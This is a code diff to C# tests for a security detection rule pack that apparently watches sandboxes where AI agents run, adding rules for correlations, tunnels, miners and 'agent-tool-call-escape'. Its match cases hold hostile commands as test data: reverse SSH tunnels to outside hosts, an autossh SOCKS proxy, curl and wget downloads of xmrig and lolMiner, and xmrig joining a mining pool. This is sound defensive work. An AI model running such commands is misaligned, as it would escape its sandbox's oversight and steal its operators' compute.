@@ -70,6 +70,7 @@ public sealed partial class RulePackTests
         }
 
         Assert.Matches(UuidV4(), rule.Id);
+        Assert.DoesNotContain(rule.Id, PackRuleSet().Errors.Select(e => e.RuleId)); // correlations link within the pack
         Assert.False(string.IsNullOrWhiteSpace(rule.Title));
         Assert.False(string.IsNullOrWhiteSpace(rule.Description));
         Assert.Contains(rule.Status, new[] { "experimental", "test", "stable" });
@@ -77,18 +78,24 @@ public sealed partial class RulePackTests
         Assert.NotEmpty(rule.References);
         Assert.All(rule.References, r => Assert.StartsWith("https://", r, StringComparison.Ordinal));
         Assert.NotEmpty(rule.FalsePositives);
-        Assert.NotEmpty(rule.Fields);
+        Assert.True(rule.Correlation is not null || rule.Fields.Count > 0, $"{file} reads no field");
 
         // The level is written in the rule, not defaulted, and agrees with what was compiled.
         var level = LevelLine().Match(yaml);
         Assert.True(level.Success, $"{file} has no level");
         Assert.True(AlertLevels.TryParse(level.Groups[1].Value, out var written));
         Assert.Equal(written, rule.Level);
-        Assert.True(rule.Level >= AlertLevel.Medium, $"{file}: the pack's rules are all worth a human's attention");
+        // Rules that raise alerts are worth a human's attention; rules that only feed correlations are not, alone.
+        var feedsOnly = PackRuleSet().Rules.Any(r => r.Rule.Id == rule.Id && !r.Generates);
+        Assert.True(feedsOnly || rule.Level >= AlertLevel.Medium, $"{file}: the pack's alerting rules are all worth a human's attention");
+        Assert.True(!feedsOnly || rule.Level <= AlertLevel.Low, $"{file}: a rule that only feeds correlations says so with its level");
 
         Assert.Matches(AuthorLine(), yaml);
         Assert.Matches(DateLine(), yaml);
     }
+
+    /// <summary>The pack compiled and linked as the pipeline does.</summary>
+    internal static RuleSet PackRuleSet() => RuleSet.Compile(LoadPack().Select(r => r.Record));
 
     [Fact]
     public void RuleIdsAreUnique()
@@ -175,6 +182,23 @@ public sealed partial class RulePackTests
         { "firewall-threat-alert.yml", true, Fw("deny", 443, kind: "alert") },
         { "firewall-threat-alert.yml", false, Fw("deny", 443, kind: "alert", sandbox: false) },
         { "firewall-threat-alert.yml", false, Fw("allow", 443) },
+        { "firewall-deny.yml", true, Fw("deny", 443) },
+        { "firewall-deny.yml", false, Fw("allow", 443) },
+        { "firewall-deny.yml", false, Fw("deny", 443, sandbox: false) },
+        { "internal-connection.yml", true, Conn("10.40.1.5", 22, "private") },
+        { "internal-connection.yml", false, Conn("192.0.2.20", 443, "public") },
+        { "tunnel-setup.yml", true, Proc("/usr/bin/ssh", "ssh -fNR 2222:localhost:22 u@203.0.113.5") },
+        { "tunnel-setup.yml", true, Proc("/usr/bin/autossh", "autossh -M 0 -N -D 1080 u@h") },
+        { "tunnel-setup.yml", false, Proc("/usr/bin/ssh", "ssh -p 2222 -l Dave bastion.internal") },
+        { "long-outbound-session.yml", true, Conn("203.0.113.66", 22, "public", "event.duration=900000000000") },
+        { "long-outbound-session.yml", false, Conn("203.0.113.66", 22, "public", "event.duration=30000000000") },
+        { "long-outbound-session.yml", false, Conn("10.40.0.10", 22, "private", "event.duration=900000000000") },
+        { "miner-download.yml", true, Proc("/usr/bin/curl", "curl -sLO http://203.0.113.80/xmrig-6.21.0-linux-static-x64.tar.gz") },
+        { "miner-download.yml", true, Proc("/usr/bin/wget", "wget -q https://example.org/lolMiner_v1.88_Lin64.tar.gz") },
+        { "miner-download.yml", false, Proc("/usr/bin/curl", "curl -fsSLO https://rl-datasets-prod.s3.amazonaws.com/shard-0001.parquet") },
+        { "miner-download.yml", false, Proc("/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o stratum+tcp://p:3333") },
+        { "gpu-saturation.yml", true, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=97.5"] },
+        { "gpu-saturation.yml", false, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=62.0"] },
         { "agent-tool-call-escape.yml", true, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=ssh -fNR 2222:localhost:22 tunnel@203.0.113.66"] },
         { "agent-tool-call-escape.yml", true, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input={\"command\":\"nohup ./xmrig -o stratum+tcp://p:3333 &\"}"] },
         { "agent-tool-call-escape.yml", false, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=python3 -m pytest -q tests/"] },
@@ -184,7 +208,7 @@ public sealed partial class RulePackTests
     [Fact]
     public void EveryRuleHasMatchCases()
     {
-        var covered = MatchCases().Select(c => (string)c[0]).ToHashSet(StringComparer.Ordinal);
+        var covered = MatchCases().Select(c => (string)c[0]).Concat(Correlation.CorrelationPackTests.Cases().Select(c => (string)c[0])).ToHashSet(StringComparer.Ordinal);
         Assert.All(RuleFileNames(), f => Assert.Contains(f, covered));
     }
 
